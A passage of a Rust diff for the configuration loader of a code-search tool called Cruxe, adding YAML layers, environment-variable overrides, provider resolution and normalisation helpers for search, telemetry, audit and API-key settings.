+            let mut raw = load_yaml_value(&yaml_path)?;
+            drop_trusted_only_sections(&mut raw, &yaml_path);
+            merge_toml_values(&mut merged, &raw);
+        }
+
         // Layer 1 (highest priority): Explicit config file from --config flag
         if let Some(cf) = config_file {
             let raw = load_toml_value(cf)?;
@@ -1072,6 +2115,8 @@ impl Config {
         // Layer 0 (highest priority): Environment variable overrides
         // Convention: CRUXE_<SECTION>_<KEY> in UPPER_SNAKE_CASE
         apply_env_overrides(&mut config);
+        apply_path_scope_override(&mut config.index);
+        apply_named_providers(&mut config);
 
         config.search.freshness_policy =
             normalize_freshness_policy(&config.search.freshness_policy);
@@ -1258,6 +2303,14 @@ impl Config {
             .as_ref()
             .map(|value| value.trim().to_string())
             .filter(|value| !value.is_empty());
+        config.search.semantic.embedding.endpoint = config
+            .search
+            .semantic
+            .embedding
+            .endpoint
+            .as_ref()
+            .map(|value| value.trim().to_string())
+            .filter(|value| !value.is_empty());
         config.search.semantic.overrides.natural_language.ratio = config
             .search
             .semantic
@@ -1372,6 +2425,41 @@ impl Config {
             .map(|value| value.trim().to_string())
             .filter(|value| !value.is_empty());
 
+        config.telemetry.endpoint = config
+            .telemetry
+            .endpoint
+            .as_ref()
+            .map(|value| value.trim().to_string())
+            .filter(|value| !value.is_empty());
+        for tenant in &mut config.server.tenants {
+            tenant.name = tenant.name.trim().to_string();
+            tenant.workspace = expand_tilde(tenant.workspace.trim());
+            tenant.token = tenant
+                .token
+                .as_ref()
+                .map(|value| value.trim().to_string())
+                .filter(|value| !value.is_empty());
+            tenant.token_env = tenant
+                .token_env
+                .as_ref()
+                .map(|value| value.trim().to_string())
+                .filter(|value| !value.is_empty());
+        }
+        for key in &mut config.server.api_keys {
+            key.name = key.name.trim().to_string();
+            key.role = key.role.trim().to_ascii_lowercase();
+            if key.role.is_empty() {
+                key.role = default_api_key_role();
+            }
+            for value in [&mut key.token, &mut key.token_env, &mut key.tenant] {
+                *value = value
+                    .as_ref()
+                    .map(|value| value.trim().to_string())
+                    .filter(|value| !value.is_empty());
+            }
+            key.read_prefixes = normalize_non_empty_list(&key.read_prefixes);
+        }
+
         // Legacy compatibility fallback.
         if config.search.ranking_explain_level == "off" && config.debug.ranking_reasons {
             config.search.ranking_explain_level = "full".to_string();
@@ -1379,6 +2467,13 @@ impl Config {
 
         // Expand ~ in data_dir
         config.storage.data_dir = expand_tilde(&config.storage.data_dir);
+        config.audit.path = config
+            .audit
+            .path
+            .as_deref()
+            .map(str::trim)
+            .filter(|value| !value.is_empty())
+            .map(expand_tilde);
 
         Ok(config)
     }
@@ -1389,6 +2484,14 @@ impl Config {
             .join("data")
             .join(project_id)
     }
+
+    /// Name of the shard that owns `path`, if any.
+    pub fn shard_for(&self, path: &str) -> Option<&str> {
+        self.shards
+            .iter()
+            .find(|(_, shard)| shard.contains(path))
+            .map(|(name, _)| name.as_str())
+    }
 }
 
 /// Load a TOML file as a raw `toml::Value` (preserving only explicitly-set fields).
@@ -1399,6 +2502,17 @@ fn load_toml_value(path: &Path) -> Result<toml::Value, ConfigError> {
         .map_err(|e| ConfigError::ParseError(e.to_string()))
 }
 
+/// Load a YAML file as a raw `toml::Value` so it merges like the TOML layers.
+/// Keys and nesting mirror the TOML sections (`index:`, `rules:`, ...).
+fn load_yaml_value(path: &Path) -> Result<toml::Value, ConfigError> {
+    let content = std::fs::read_to_string(path)?;
+    if content.trim().is_empty() {
+        return Ok(toml::Value::Table(toml::map::Map::new()));
+    }
+    serde_yaml::from_str::<toml::Value>(&content)
+        .map_err(|e| ConfigError::ParseError(format!("{}: {e}", path.display())))
+}
+
 /// Deep-merge `overlay` into `base`. Only keys present in `overlay` are written.
 fn merge_toml_values(base: &mut toml::Value, overlay: &toml::Value) {
     if let (toml::Value::Table(base_map), toml::Value::Table(overlay_map)) = (base, overlay) {
@@ -1462,6 +2576,20 @@ fn apply_env_ranking_budget_default(
 
 /// Apply environment variable overrides to config fields.
 /// Convention: `CRUXE_<SECTION>_<KEY>` in UPPER_SNAKE_CASE.
+fn apply_path_scope_override(index: &mut IndexConfig) {
+    let Ok(guard) = PATH_SCOPE_OVERRIDE.lock() else {
+        return;
+    };
+    if let Some((include, exclude)) = guard.as_ref() {
+        if !include.is_empty() {
+            index.include = include.clone();
+        }
+        if !exclude.is_empty() {
+            index.exclude = exclude.clone();
+        }
+    }
+}
+
 fn apply_env_overrides(config: &mut Config) {
     if let Ok(v) = std::env::var("CRUXE_STORAGE_DATA_DIR") {
         config.storage.data_dir = v;
@@ -1476,6 +2604,11 @@ fn apply_env_overrides(config: &mut Config) {
     {
         config.storage.cache_size = n;
     }
+    if let Ok(v) = std::env::var("CRUXE_STORAGE_MMAP_SIZE")
+        && let Ok(n) = v.parse()
+    {
+        config.storage.mmap_size = n;
+    }
     if let Ok(v) = std::env::var("CRUXE_INDEX_MAX_FILE_SIZE")
         && let Ok(n) = v.parse()
     {
@@ -1486,9 +2619,46 @@ fn apply_env_overrides(config: &mut Config) {
     {
         config.index.default_limit = n;
     }
+    if let Ok(v) = std::env::var("CRUXE_INDEX_DEPENDENCIES") {
+        config.index.dependencies.mode = v;
+    }
+    if let Ok(v) = std::env::var("CRUXE_INDEX_DEPENDENCY_DEPTH")
+        && let Ok(n) = v.parse()
+    {
+        config.index.dependencies.depth = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_INDEX_SUBMODULES")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.index.submodules = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_INDEX_SYMLINKS") {
+        config.index.symlinks = v;
+    }
+    if let Ok(v) = std::env::var("CRUXE_INDEX_MAX_LINE_LENGTH")
+        && let Ok(n) = v.parse()
+    {
+        config.index.max_line_length = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_INDEX_SKIP_BINARY")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.index.skip_binary = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_REMOTE_CACHE_URL") {
+        config.remote_cache.url = Some(v).filter(|url| !url.trim().is_empty());
+    }
+    if let Ok(v) = std::env::var("CRUXE_CHECK_PROFILE") {
+        config.check.profile = Some(v);
+    }
     if let Ok(v) = std::env::var("CRUXE_SEARCH_DEFAULT_REF") {
         config.search.default_ref = v;
     }
+    if let Ok(v) = std::env::var("CRUXE_SERVER_QUERY_TIMEOUT_MS")
+        && let Ok(n) = v.parse()
+    {
+        config.server.limits.query_timeout_ms = n;
+    }
     if let Ok(v) = std::env::var("CRUXE_LOGGING_LEVEL") {
         config.logging.level = v;
     }
@@ -1761,1106 +2931,1938 @@ fn apply_env_overrides(config: &mut Config) {
     {
         config.search.semantic.ratio = n;
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_THRESHOLD")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.confidence_threshold = n;
-    } else if let Ok(v) = std::env::var("CRUXE_SEARCH_CONFIDENCE_THRESHOLD")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.confidence_threshold = n;
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_THRESHOLD")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.confidence_threshold = n;
+    } else if let Ok(v) = std::env::var("CRUXE_SEARCH_CONFIDENCE_THRESHOLD")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.confidence_threshold = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_TOP_SCORE_WEIGHT")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.confidence_top_score_weight = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_SCORE_MARGIN_WEIGHT")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.confidence_score_margin_weight = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_CHANNEL_AGREEMENT_WEIGHT")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.confidence_channel_agreement_weight = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LOCAL_RERANK_PHRASE_BOOST")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.local_rerank_phrase_boost = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LOCAL_RERANK_TOKEN_OVERLAP_WEIGHT")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.local_rerank_token_overlap_weight = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LIMIT_MULTIPLIER")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.semantic_limit_multiplier = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LEXICAL_FANOUT_MULTIPLIER")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.lexical_fanout_multiplier = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_SEMANTIC_FANOUT_MULTIPLIER")
+        && let Ok(n) = v.parse()
+    {
+        config.search.semantic.semantic_fanout_multiplier = n;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEARCH_SEMANTIC_PROFILE") {
+        config.search.semantic.embedding.profile = v;
+    } else if let Ok(v) = std::env::var("CRUXE_SEMANTIC_EMBEDDING_PROFILE") {
+        config.search.semantic.embedding.profile = v;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_VECTOR_BACKEND") {
+        config.search.semantic.embedding.vector_backend = v;
+    } else if let Ok(v) = std::env::var("CRUXE_SEARCH_SEMANTIC_VECTOR_BACKEND") {
+        config.search.semantic.embedding.vector_backend = v;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_EMBEDDING_PROVIDER") {
+        config.search.semantic.embedding.provider = v;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_EMBEDDING_ENDPOINT") {
+        config.search.semantic.embedding.endpoint = Some(v);
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_RERANK_PROVIDER") {
+        config.search.semantic.rerank.provider = v;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_EXTERNAL_PROVIDER_ENABLED")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.search.semantic.external_provider_enabled = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_ALLOW_CODE_PAYLOAD_TO_EXTERNAL")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.search.semantic.allow_code_payload_to_external = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_DEBUG_RANKING_REASONS")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.debug.ranking_reasons = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_TELEMETRY_ENABLED")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.telemetry.enabled = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_TELEMETRY_ENDPOINT") {
+        config.telemetry.endpoint = Some(v);
+    }
+    if let Ok(v) = std::env::var("CRUXE_AUDIT_ENABLED")
+        && let Some(parsed) = parse_env_bool(&v)
+    {
+        config.audit.enabled = parsed;
+    }
+    if let Ok(v) = std::env::var("CRUXE_AUDIT_PATH") {
+        config.audit.path = Some(v);
+    }
+}
+
+fn parse_csv_env_list(raw: &str) -> Vec<String> {
+    raw.split(',')
+        .map(|value| value.trim())
+        .filter(|value| !value.is_empty())
+        .map(ToString::to_string)
+        .collect()
+}
+
+fn parse_env_bool(raw: &str) -> Option<bool> {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "1" | "true" | "yes" | "on" => Some(true),
+        "0" | "false" | "no" | "off" => Some(false),
+        _ => None,
+    }
+}
+
+fn promote_query_section(merged: &mut toml::Value) {
+    let Some(root) = merged.as_table_mut() else {
+        return;
+    };
+
+    let Some(query_table) = root.get("query").and_then(|v| v.as_table()).cloned() else {
+        return;
+    };
+
+    let search_value = root
+        .entry("search")
+        .or_insert_with(|| toml::Value::Table(toml::map::Map::new()));
+    let Some(search_table) = search_value.as_table_mut() else {
+        return;
+    };
+
+    for key in [
+        "default_ref",
+        "freshness_policy",
+        "ranking_explain_level",
+        "max_response_bytes",
+    ] {
+        if !search_table.contains_key(key)
+            && let Some(value) = query_table.get(key)
+        {
+            search_table.insert(key.to_string(), value.clone());
+        }
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_TOP_SCORE_WEIGHT")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.confidence_top_score_weight = n;
+}
+
+fn promote_semantic_section(merged: &mut toml::Value) {
+    let Some(root) = merged.as_table_mut() else {
+        return;
+    };
+
+    let Some(semantic_value) = root.get("semantic").cloned() else {
+        return;
+    };
+
+    let search_value = root
+        .entry("search")
+        .or_insert_with(|| toml::Value::Table(toml::map::Map::new()));
+    let Some(search_table) = search_value.as_table_mut() else {
+        return;
+    };
+
+    let search_semantic = search_table
+        .entry("semantic")
+        .or_insert_with(|| semantic_value.clone());
+    merge_missing_toml_values(search_semantic, &semantic_value);
+}
+
+fn merge_missing_toml_values(base: &mut toml::Value, overlay: &toml::Value) {
+    if let (toml::Value::Table(base_map), toml::Value::Table(overlay_map)) = (base, overlay) {
+        for (key, overlay_val) in overlay_map {
+            if let Some(base_val) = base_map.get_mut(key) {
+                if base_val.is_table() && overlay_val.is_table() {
+                    merge_missing_toml_values(base_val, overlay_val);
+                }
+            } else {
+                base_map.insert(key.clone(), overlay_val.clone());
+            }
+        }
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_SCORE_MARGIN_WEIGHT")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.confidence_score_margin_weight = n;
+}
+
+fn parse_freshness_policy(raw: &str) -> Option<FreshnessPolicy> {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "strict" => Some(FreshnessPolicy::Strict),
+        "balanced" => Some(FreshnessPolicy::Balanced),
+        "best_effort" | "besteffort" => Some(FreshnessPolicy::BestEffort),
+        _ => None,
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_CONFIDENCE_CHANNEL_AGREEMENT_WEIGHT")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.confidence_channel_agreement_weight = n;
+}
+
+fn freshness_policy_to_str(policy: FreshnessPolicy) -> &'static str {
+    match policy {
+        FreshnessPolicy::Strict => "strict",
+        FreshnessPolicy::Balanced => "balanced",
+        FreshnessPolicy::BestEffort => "best_effort",
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LOCAL_RERANK_PHRASE_BOOST")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.local_rerank_phrase_boost = n;
+}
+
+fn normalize_freshness_policy(raw: &str) -> String {
+    let policy = parse_freshness_policy(raw).unwrap_or(FreshnessPolicy::Balanced);
+    freshness_policy_to_str(policy).to_string()
+}
+
+fn parse_ranking_explain_level(raw: &str) -> Option<RankingExplainLevel> {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "off" => Some(RankingExplainLevel::Off),
+        "basic" => Some(RankingExplainLevel::Basic),
+        "full" => Some(RankingExplainLevel::Full),
+        _ => None,
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LOCAL_RERANK_TOKEN_OVERLAP_WEIGHT")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.local_rerank_token_overlap_weight = n;
+}
+
+fn ranking_explain_level_to_str(level: RankingExplainLevel) -> &'static str {
+    match level {
+        RankingExplainLevel::Off => "off",
+        RankingExplainLevel::Basic => "basic",
+        RankingExplainLevel::Full => "full",
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LIMIT_MULTIPLIER")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.semantic_limit_multiplier = n;
+}
+
+fn normalize_ranking_explain_level(raw: &str) -> String {
+    let level = parse_ranking_explain_level(raw).unwrap_or(RankingExplainLevel::Off);
+    ranking_explain_level_to_str(level).to_string()
+}
+
+fn parse_semantic_mode(raw: &str) -> Option<SemanticMode> {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "off" => Some(SemanticMode::Off),
+        "rerank_only" | "rerankonly" | "shadow" => Some(SemanticMode::RerankOnly),
+        "hybrid" | "on" | "enabled" => Some(SemanticMode::Hybrid),
+        _ => None,
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_LEXICAL_FANOUT_MULTIPLIER")
-        && let Ok(n) = v.parse()
-    {
-        config.search.semantic.lexical_fanout_multiplier = n;
+}
+
+fn semantic_mode_to_str(mode: SemanticMode) -> &'static str {
+    match mode {
+        SemanticMode::Off => "off",
+        SemanticMode::RerankOnly => "rerank_only",
+        SemanticMode::Hybrid => "hybrid",
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_SEMANTIC_FANOUT_MULTIPLIER")
-        && let Ok(n) = v.parse()
+}
+
+fn normalize_semantic_mode(raw: &str) -> String {
+    let mode = parse_semantic_mode(raw).unwrap_or(SemanticMode::Off);
+    semantic_mode_to_str(mode).to_string()
+}
+
+fn parse_policy_mode(raw: &str) -> Option<PolicyMode> {
+    raw.parse::<PolicyMode>().ok()
+}
+
+fn policy_mode_to_str(mode: PolicyMode) -> &'static str {
+    mode.as_str()
+}
+
+fn normalize_policy_mode(raw: &str) -> String {
+    let mode = parse_policy_mode(raw).unwrap_or(PolicyMode::Balanced);
+    policy_mode_to_str(mode).to_string()
+}
+
+fn normalized_policy_mode_list(values: &[String], fallback: Vec<String>) -> Vec<String> {
+    let mut out = values
+        .iter()
+        .filter_map(|value| parse_policy_mode(value).map(policy_mode_to_str))
+        .map(ToString::to_string)
+        .collect::<Vec<_>>();
+    out.sort();
+    out.dedup();
+    if out.is_empty() { fallback } else { out }
+}
+
+fn normalize_non_empty_list(values: &[String]) -> Vec<String> {
+    values
+        .iter()
+        .map(|v| v.trim())
+        .filter(|v| !v.is_empty())
+        .map(ToString::to_string)
+        .collect()
+}
+
+fn normalize_non_empty_list_lowercase(values: &[String]) -> Vec<String> {
+    values
+        .iter()
+        .map(|v| v.trim().to_ascii_lowercase())
+        .filter(|v| !v.is_empty())
+        .collect()
+}
+
+fn normalize_policy_result_type_list(values: &[String]) -> Vec<String> {
+    values
+        .iter()
+        .map(|v| v.trim().to_ascii_lowercase())
+        .filter_map(|value| match value.as_str() {
+            "symbol" | "snippet" | "file" => Some(value),
+            _ => None,
+        })
+        .collect()
+}
+
+fn normalize_detect_secrets_plugins(values: &[String]) -> Vec<String> {
+    let mut normalized = Vec::new();
+    for value in values
+        .iter()
+        .map(|v| v.trim().to_ascii_lowercase())
+        .filter(|v| !v.is_empty())
     {
-        config.search.semantic.semantic_fanout_multiplier = n;
-    }
-    if let Ok(v) = std::env::var("CRUXE_SEARCH_SEMANTIC_PROFILE") {
-        config.search.semantic.embedding.profile = v;
-    } else if let Ok(v) = std::env::var("CRUXE_SEMANTIC_EMBEDDING_PROFILE") {
-        config.search.semantic.embedding.profile = v;
+        let canonical = match value.as_str() {
+            "awskeydetector" | "aws" => "aws",
+            "githubtokendetector" | "github" => "github",
+            "slackdetector" | "slack" => "slack",
+            "privatekeydetector" | "privatekey" => "privatekey",
+            _ => continue,
+        };
+        if !normalized.iter().any(|existing| existing == canonical) {
+            normalized.push(canonical.to_string());
+        }
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_VECTOR_BACKEND") {
-        config.search.semantic.embedding.vector_backend = v;
-    } else if let Ok(v) = std::env::var("CRUXE_SEARCH_SEMANTIC_VECTOR_BACKEND") {
-        config.search.semantic.embedding.vector_backend = v;
+    normalized
+}
+
+fn normalize_embedding_profile(raw: &str) -> String {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "fast_local" => "fast_local".to_string(),
+        "code_quality" => "code_quality".to_string(),
+        "high_quality" => "high_quality".to_string(),
+        "external" => "external".to_string(),
+        _ => default_semantic_embedding_profile(),
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_RERANK_PROVIDER") {
-        config.search.semantic.rerank.provider = v;
+}
+
+fn normalize_embedding_provider(raw: &str) -> String {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "local" => "local".to_string(),
+        "fake" => "fake".to_string(),
+        "voyage" => "voyage".to_string(),
+        "openai" => "openai".to_string(),
+        "openai-compatible" | "openai_compatible" | "llama.cpp" | "llamacpp" => {
+            "openai-compatible".to_string()
+        }
+        _ => default_semantic_embedding_provider(),
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_EXTERNAL_PROVIDER_ENABLED")
-        && let Some(parsed) = parse_env_bool(&v)
-    {
-        config.search.semantic.external_provider_enabled = parsed;
+}
+
+/// Resolve `search.semantic.embedding.provider` and `summarize.backend`
+/// when they name a `[providers]` entry: the feature takes the entry's kind,
+/// and its endpoint, auth and limits where it sets none of its own.
+fn apply_named_providers(config: &mut Config) {
+    let embedding = &mut config.search.semantic.embedding;
+    if let Some(provider) = config.providers.get(embedding.provider.trim()) {
+        embedding.provider = provider.kind().to_string();
+        embedding.endpoint = embedding.endpoint.take().or(provider.endpoint.clone());
+        embedding.api_key_env = embedding
+            .api_key_env
+            .take()
+            .or(provider.api_key_env.clone());
+        embedding.auth_header = embedding
+            .auth_header
+            .take()
+            .or(provider.auth_header.clone());
+        embedding.requests_per_minute = embedding
+            .requests_per_minute
+            .or(provider.requests_per_minute);
+        embedding.timeout_ms = embedding.timeout_ms.or(provider.timeout_ms);
+        if let Some(batch_size) = provider.batch_size {
+            embedding.batch_size = batch_size;
+        }
     }
-    if let Ok(v) = std::env::var("CRUXE_SEMANTIC_ALLOW_CODE_PAYLOAD_TO_EXTERNAL")
-        && let Some(parsed) = parse_env_bool(&v)
+
+    let summarize = &mut config.summarize;
+    if let Some(provider) = summarize
+        .backend
+        .as_deref()
+        .and_then(|name| config.providers.get(name.trim()))
     {
-        config.search.semantic.allow_code_payload_to_external = parsed;
+        summarize.backend = Some(provider.kind().to_string());
+        summarize.endpoint = summarize.endpoint.take().or(provider.endpoint.clone());
+        summarize.api_key_env = summarize
+            .api_key_env
+            .take()
+            .or(provider.api_key_env.clone());
+        summarize.auth_header = summarize
+            .auth_header
+            .take()
+            .or(provider.auth_header.clone());
+        summarize.requests_per_minute = summarize
+            .requests_per_minute
+            .or(provider.requests_per_minute);
+        summarize.timeout_ms = summarize.timeout_ms.or(provider.timeout_ms);
     }
-    if let Ok(v) = std::env::var("CRUXE_DEBUG_RANKING_REASONS")
-        && let Some(parsed) = parse_env_bool(&v)
-    {
-        config.debug.ranking_reasons = parsed;
+}
+
+fn normalize_rerank_provider(raw: &str) -> String {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "none" => "none".to_string(),
+        "cohere" => "cohere".to_string(),
+        "voyage" => "voyage".to_string(),
+        "cross-encoder" | "cross_encoder" | "crossencoder" => "cross-encoder".to_string(),
+        _ => default_semantic_rerank_provider(),
     }
 }
 
-fn parse_csv_env_list(raw: &str) -> Vec<String> {
-    raw.split(',')
-        .map(|value| value.trim())
-        .filter(|value| !value.is_empty())
-        .map(ToString::to_string)
-        .collect()
+fn normalize_vector_backend(raw: &str) -> String {
+    match raw.trim().to_ascii_lowercase().as_str() {
+        "lancedb" | "lance" => "lancedb".to_string(),
+        "sqlite" | "" => "sqlite".to_string(),
+        _ => default_semantic_vector_backend(),
+    }
 }
 
-fn parse_env_bool(raw: &str) -> Option<bool> {
+/// Normalize user-provided intent rule names/aliases into canonical identifiers.
+pub fn canonical_intent_rule_name(raw: &str) -> Option<&'static str> {
     match raw.trim().to_ascii_lowercase().as_str() {
-        "1" | "true" | "yes" | "on" => Some(true),
-        "0" | "false" | "no" | "off" => Some(false),
+        "error_pattern" | "error" => Some("error_pattern"),
+        "path" => Some("path"),
+        "quoted_error" | "quoted" => Some("quoted_error"),
+        "symbol" => Some("symbol"),
+        "natural_language" | "nl" | "default" => Some("natural_language"),
         _ => None,
     }
 }
 
-fn promote_query_section(merged: &mut toml::Value) {
-    let Some(root) = merged.as_table_mut() else {
-        return;
-    };
-
-    let Some(query_table) = root.get("query").and_then(|v| v.as_table()).cloned() else {
-        return;
-    };
+fn normalize_intent_rule_order(raw: &[String]) -> Vec<String> {
+    let mut normalized = Vec::new();
+    for value in raw {
+        let Some(rule) = canonical_intent_rule_name(value) else {
+            continue;
+        };
+        if !normalized.iter().any(|existing| existing == rule) {
+            normalized.push(rule.to_string());
+        }
+    }
 
-    let search_value = root
-        .entry("search")
-        .or_insert_with(|| toml::Value::Table(toml::map::Map::new()));
-    let Some(search_table) = search_value.as_table_mut() else {
-        return;
-    };
+    if normalized.is_empty() {
+        return default_intent_rule_order();
+    }
+    if !normalized.iter().any(|rule| rule == "natural_language") {
+        normalized.push("natural_language".to_string());
+    }
+    normalized
+}
 
-    for key in [
-        "default_ref",
-        "freshness_policy",
-        "ranking_explain_level",
-        "max_response_bytes",
-    ] {
-        if !search_table.contains_key(key)
-            && let Some(value) = query_table.get(key)
-        {
-            search_table.insert(key.to_string(), value.clone());
+fn normalize_intent_error_patterns(raw: &[String]) -> Vec<String> {
+    let mut normalized = Vec::new();
+    for value in raw.iter().map(|value| value.trim()) {
+        if value.is_empty() {
+            continue;
+        }
+        let value = value.to_string();
+        if !normalized.contains(&value) {
+            normalized.push(value);
         }
     }
+    if normalized.is_empty() {
+        default_intent_error_patterns()
+    } else {
+        normalized
+    }
 }
 
-fn promote_semantic_section(merged: &mut toml::Value) {
-    let Some(root) = merged.as_table_mut() else {
-        return;
-    };
-
-    let Some(semantic_value) = root.get("semantic").cloned() else {
-        return;
-    };
-
-    let search_value = root
-        .entry("search")
-        .or_insert_with(|| toml::Value::Table(toml::map::Map::new()));
-    let Some(search_table) = search_value.as_table_mut() else {
-        return;
-    };
-
-    let search_semantic = search_table
-        .entry("semantic")
-        .or_insert_with(|| semantic_value.clone());
-    merge_missing_toml_values(search_semantic, &semantic_value);
+fn normalize_intent_path_extensions(raw: &[String]) -> Vec<String> {
+    let mut normalized = Vec::new();
+    for value in raw
+        .iter()
+        .map(|value| value.trim().to_ascii_lowercase())
+        .filter(|value| !value.is_empty())
+    {
+        let value = if value.starts_with('.') {
+            value
+        } else {
+            format!(".{value}")
+        };
+        if !normalized.contains(&value) {
+            normalized.push(value);
+        }
+    }
+    if normalized.is_empty() {
+        default_intent_path_extensions()
+    } else {
+        normalized
+    }
 }
 
-fn merge_missing_toml_values(base: &mut toml::Value, overlay: &toml::Value) {
-    if let (toml::Value::Table(base_map), toml::Value::Table(overlay_map)) = (base, overlay) {
-        for (key, overlay_val) in overlay_map {
-            if let Some(base_val) = base_map.get_mut(key) {
-                if base_val.is_table() && overlay_val.is_table() {
-                    merge_missing_toml_values(base_val, overlay_val);
-                }
-            } else {
-                base_map.insert(key.clone(), overlay_val.clone());
-            }
+fn normalize_intent_symbol_kind_keywords(raw: &[String]) -> Vec<String> {
+    let mut normalized = Vec::new();
+    for value in raw
+        .iter()
+        .map(|value| value.trim().to_ascii_lowercase())
+        .filter(|value| !value.is_empty())
+    {
+        if !normalized.contains(&value) {
+            normalized.push(value);
         }
     }
+    if normalized.is_empty() {
+        default_intent_symbol_kind_keywords()
+    } else {
+        normalized
+    }
+}
+
+fn normalize_adaptive_plan_config(mut config: AdaptivePlanConfig) -> AdaptivePlanConfig {
+    config.high_confidence_threshold = clamp_unit_f64_with_warning(
+        config.high_confidence_threshold,
+        default_adaptive_plan_high_confidence_threshold(),
+        "search.adaptive_plan.high_confidence_threshold",
+    );
+    config.low_confidence_threshold = clamp_unit_f64_with_warning(
+        config.low_confidence_threshold,
+        default_adaptive_plan_low_confidence_threshold(),
+        "search.adaptive_plan.low_confidence_threshold",
+    );
+    if config.low_confidence_threshold > config.high_confidence_threshold {
+        tracing::warn!(
+            low_confidence_threshold = config.low_confidence_threshold,
+            high_confidence_threshold = config.high_confidence_threshold,
+            "adaptive plan thresholds inverted; restoring defaults"
+        );
+        config.high_confidence_threshold = default_adaptive_plan_high_confidence_threshold();
+        config.low_confidence_threshold = default_adaptive_plan_low_confidence_threshold();
+    }
+
+    config.lexical_fast_lexical_fanout_multiplier = clamp_min_usize_with_warning(
+        config.lexical_fast_lexical_fanout_multiplier,
+        1,
+        default_lexical_fast_lexical_fanout_multiplier(),
+        "search.adaptive_plan.lexical_fast_lexical_fanout_multiplier",
+    );
+    config.hybrid_standard_semantic_limit_multiplier = clamp_min_usize_with_warning(
+        config.hybrid_standard_semantic_limit_multiplier,
+        1,
+        default_hybrid_standard_semantic_limit_multiplier(),
+        "search.adaptive_plan.hybrid_standard_semantic_limit_multiplier",
+    );
+    config.hybrid_standard_lexical_fanout_multiplier = clamp_min_usize_with_warning(
+        config.hybrid_standard_lexical_fanout_multiplier,
+        1,
+        default_hybrid_standard_lexical_fanout_multiplier(),
+        "search.adaptive_plan.hybrid_standard_lexical_fanout_multiplier",
+    );
+    config.hybrid_standard_semantic_fanout_multiplier = clamp_min_usize_with_warning(
+        config.hybrid_standard_semantic_fanout_multiplier,
+        1,
+        default_hybrid_standard_semantic_fanout_multiplier(),
+        "search.adaptive_plan.hybrid_standard_semantic_fanout_multiplier",
+    );
+    config.semantic_deep_semantic_limit_multiplier = clamp_min_usize_with_warning(
+        config.semantic_deep_semantic_limit_multiplier,
+        1,
+        default_semantic_deep_semantic_limit_multiplier(),
+        "search.adaptive_plan.semantic_deep_semantic_limit_multiplier",
+    );
+    config.semantic_deep_lexical_fanout_multiplier = clamp_min_usize_with_warning(
+        config.semantic_deep_lexical_fanout_multiplier,
+        1,
+        default_semantic_deep_lexical_fanout_multiplier(),
